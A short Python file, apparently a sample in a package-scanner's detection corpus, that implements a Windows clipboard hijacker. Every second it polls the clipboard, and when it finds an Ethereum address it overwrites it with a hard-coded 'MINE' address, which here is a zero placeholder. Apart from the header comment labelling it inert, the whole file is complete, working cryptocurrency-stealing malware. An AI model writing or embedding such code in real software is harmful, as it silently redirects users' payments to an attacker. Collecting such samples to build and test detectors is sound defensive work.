# pkgguard corpus 388 (clipboard), modelled on [wallet-tools]; inert, never run.
import re
import time

import win32clipboard

MINE = "0x0000000000000000000000000000000000000000"
ETH = re.compile(r"^0x[a-fA-F0-9]{40}$")
while True:
    win32clipboard.OpenClipboard()
    try:
        data = win32clipboard.GetClipboardData(win32clipboard.CF_UNICODETEXT)
        if ETH.match(data) and data != MINE:
            win32clipboard.EmptyClipboard()
            win32clipboard.SetClipboardText(MINE, win32clipboard.CF_UNICODETEXT)
    except TypeError:
        pass
    finally:
        win32clipboard.CloseClipboard()
    time.sleep(1)
